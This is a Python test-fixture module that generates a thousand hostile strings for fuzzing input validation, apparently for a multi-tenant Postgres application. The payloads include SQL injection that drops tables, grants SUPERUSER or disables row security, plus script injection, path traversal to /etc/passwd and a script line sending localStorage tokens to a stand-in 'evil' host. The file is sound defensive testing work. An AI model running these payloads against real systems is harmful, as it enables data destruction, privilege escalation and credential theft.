"""A thousand hostile strings: SQL injection, script injection, format and encoding tricks.

Built from families of known attacks crossed with the quoting contexts they try to escape, so each is
distinct. None contains NUL (the contract refuses it, tested elsewhere) and each fits every field cap.
"""

from __future__ import annotations

import itertools

SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE raw.site_tracking_events; --",
    "'; DROP SCHEMA business CASCADE; --",
    '"; DROP TABLE auth.tenant_h; --',
    "1; DELETE FROM audit.request_log",
    "' UNION SELECT tenant_hk, tenant_bk FROM auth.tenant_h --",
    "'); INSERT INTO raw.site_tracking_events VALUES (1); --",
    "' AND pg_sleep(5) IS NULL --",
    "'||(SELECT pg_sleep(5))||'",
    "$$; DROP TABLE staging.site_events; $$",
    "$tag$ ; ALTER ROLE onevault_app SUPERUSER; $tag$",
    "'; SET row_security = off; --",
    "'; SELECT set_config('onevault.tenant_hk', '00', false); --",
    "'; RESET ROLE; SET ROLE postgres; --",
    "\\'; COPY raw.site_tracking_events TO '/tmp/x'; --",
    "1' AND 1=CAST((SELECT version()) AS int) --",
    "admin'--",
    "' OR ''='",
    "%' OR '%'='",
    "E'\\x27; DROP TABLE x; --",
    "U&'\\0027; DROP TABLE x; --",
    "'; LISTEN onevault_raw_events; NOTIFY onevault_raw_events; --",
    "'; CREATE EXTENSION dblink; --",
    "1) OR (1=1",
]
SCRIPT = [
    "<script>alert(1)</script>",
    '"><script>alert(document.cookie)</script>',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "'-alert(1)-'",
    "</script><script>fetch('//evil/'+localStorage.ovk)</script>",
    "<iframe src=javascript:alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%s%s%n",
    "{0.__class__.__mro__}",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "\r\nSet-Cookie: owned=1",
    "\u202eevil\u202c",
    "\U0001f4a5 emoji and \u00e9",
    "\\u0000 literal backslash-u",
    "\t\n\r\x0b\x0c",
    "  leading and trailing  ",
    "||^^|| hash separators ||",
    '{"tenant_hk": "\\\\x00"}',
    "NaN",
    "-1e309",
    "null",
    "true",
    "[]",
    "{}",
    "A" * 90,
]
WRAPPERS = [
    "{}",
    "x{}",
    "{}x",
    " {} ",
    "{}{}",
    "'{}'",
    '"{}"',
    "({})",
    "{}--",
    "/*{}*/",
    "{};",
    "`{}`",
    "[{}]",
    "\\{}",
    "%27{}",
    "{}%00",
    "<{}>",
    "{}\n",
    "\u00a0{}",
    "{}#",
]


def hostile_strings(count: int = 1000) -> list[str]:
    unique: dict[str, None] = {}
    for base, wrap in itertools.product(SQL + SCRIPT, WRAPPERS):
        text = wrap.replace("{}", base)[:64]
        if text.strip():  # blank strings are refused as values of required fields, rightly: not data
            unique.setdefault(text, None)
        if len(unique) == count:
            break
    strings = list(unique)
    assert len(strings) == count, f"only {len(strings)} distinct payloads"
    return strings
